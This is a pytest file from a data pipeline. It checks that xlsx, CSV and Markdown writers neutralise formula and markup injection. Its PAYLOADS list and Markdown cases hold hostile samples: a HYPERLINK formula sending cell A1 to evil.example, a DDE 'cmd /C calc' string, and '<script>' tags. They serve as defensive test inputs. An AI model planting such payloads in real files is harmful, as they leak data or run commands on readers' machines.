"""Formula injection (xlsx, CSV) and markup injection (Markdown) are neutralised in every writer."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.markdown import code, escape
from pipeline.spreadsheet import TRIGGERS, csv_rows, frame_csv, needs_quote, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_quoted(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("plain", ["-5", "+1.5", "-0,25", "1e-05", "werkstress", "", "'=x", "a=b"])
def test_numbers_and_plain_text_are_left_alone(plain):
    assert neutralise(plain) == plain


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=20))
def test_no_neutralised_text_starts_a_formula(text):
    out = neutralise(text)
    assert not needs_quote(out)
    assert out == text or out == "'" + text
    if out != text:  # only text a spreadsheet would evaluate is touched
        assert text.lstrip(" ").startswith(TRIGGERS)


def _first_chars(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text, newline="")) for c in row]


def test_csv_writers_quote_text_cells_and_keep_numbers():
    df = pd.DataFrame(
        {"label": PAYLOADS, "x": np.arange(len(PAYLOADS)) - 3.5, "n": range(len(PAYLOADS))}
    )
    for text in (frame_csv(df), csv_rows(df.itertuples(index=False), header=list(df.columns))):
        cells = _first_chars(text)
        assert all(not needs_quote(c) for c in cells)
        assert "-3.5" in cells  # negative numbers are not text


def test_frame_csv_leaves_a_clean_frame_unchanged():
    df = pd.DataFrame({"a": ["x", "y"], "b": [-1.0, 2.0]})
    assert frame_csv(df) == df.to_csv(index=False, lineterminator="\n")


def _hostile_table():
    from pipeline.tables.publish import Axis, PublishedCell, PublishedTable, Sheet

    bad = PAYLOADS[0]
    cells = tuple(
        PublishedCell(
            2023,
            "werkstress",
            bad,
            "percent",
            "sector",
            lvl,
            bad,
            "statute",
            cl,
            "@" + cl,
            40.0,
            30.0,
            50.0,
            120,
            1200.0,
            "",
        )
        for lvl in ("1", "2")
        for cl in ("1", "2")
    )
    sheet = Sheet(
        2023,
        "2023",
        bad,
        Axis("sector", bad, (("1", bad), ("2", "+" + bad))),
        Axis("statute", "-x", (("1", "@" + "1"), ("2", "=2+2"))),
        (("werkstress", bad, "percent"),),
        cells,
    )
    return PublishedTable(
        "hostile",
        bad,
        "nl",
        ("estimate", "ci", "n"),
        "release",
        (sheet,),
        (("=note", bad),),
        {"data_versions": {2023: "abc"}, "request_hash": "def"},
    )


def test_table_workbook_and_csv_hold_no_formula(tmp_path):
    """A label ``=HYPERLINK(...)`` never becomes a formula: no formula cell in any sheet, and no
    text cell of the workbook or the CSV starts with a trigger."""
    import openpyxl

    from pipeline.tables.files import write_table

    xlsx, csv_path, _, excel = write_table(_hostile_table(), tmp_path)
    with zipfile.ZipFile(xlsx) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)
    wb = openpyxl.load_workbook(xlsx)
    texts = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert all(not needs_quote(t) for t in texts)
    assert all(not needs_quote(c) for c in _first_chars(csv_path.read_text(encoding="utf-8")))
    # the Dutch-locale Excel CSV too (';' separated, after its byte order mark)
    nl = excel.read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(nl, newline=""), delimiter=";") for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert all(not needs_quote(c) for c in cells)


def test_estimates_and_weight_csv_quote_data_levels(tmp_path):
    from pipeline.estimation.api import to_csv_text
    from pipeline.weighting.frameio import write_frame

    df = pd.DataFrame({"level": ["=1+1", "a"], "estimate": [-0.5, 0.5]})
    assert _first_chars(to_csv_text(df))[2] == "'=1+1"
    write_frame(df, tmp_path / "w.csv")
    assert "'=1+1" in (tmp_path / "w.csv").read_text(encoding="utf-8")


# -- Markdown -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("<script>alert(1)</script>", r"\<script>alert(1)\</script>"),
        ("> citaat -> x", r"\> citaat -> x"),
        ("[klik](http://evil.example)", r"\[klik\](http://evil.example)"),
        ("a | b", r"a \| b"),
        ("# kop", r"\# kop"),
        ("1. punt", r"1\. punt"),
        ("eerste\nregel", "eerste regel"),
        ("**vet** en _schuin_", r"\*\*vet\*\* en \_schuin\_"),
        ("werkbaar_werk: 51,8% & meer", "werkbaar_werk: 51,8% & meer"),
    ],
)
def test_markdown_escape(text, escaped):
    assert escape(text) == escaped


def test_code_span_with_backticks():
    assert code("a`b") == "``a`b``"
    assert code("x_y") == "`x_y`"


def test_codebook_markdown_escapes_labels(tmp_path):
    from pipeline.questionnaire.codebook import render_markdown
    from pipeline.questionnaire.load import load_questionnaire

    q = load_questionnaire("wbm-werknemers-2023")
    item = next(it for it in q.items if it.name == "sex")
    label = item.label.model_copy(update={"nl": "<script>x</script> | [a](http://e)"})
    q2 = q.model_copy(
        update={
            "items": tuple(
                it.model_copy(update={"label": label}) if it is item else it for it in q.items
            )
        }
    )
    text = render_markdown(q2, "nl")
    assert not re.search(r"(?<!\\)<script", text) and "[a](" not in text
    assert r"\<script>x\</script> \| \[a\](http://e)" in text
    assert "`werkbaar_werk`" in text  # identifiers stay code spans, unescaped
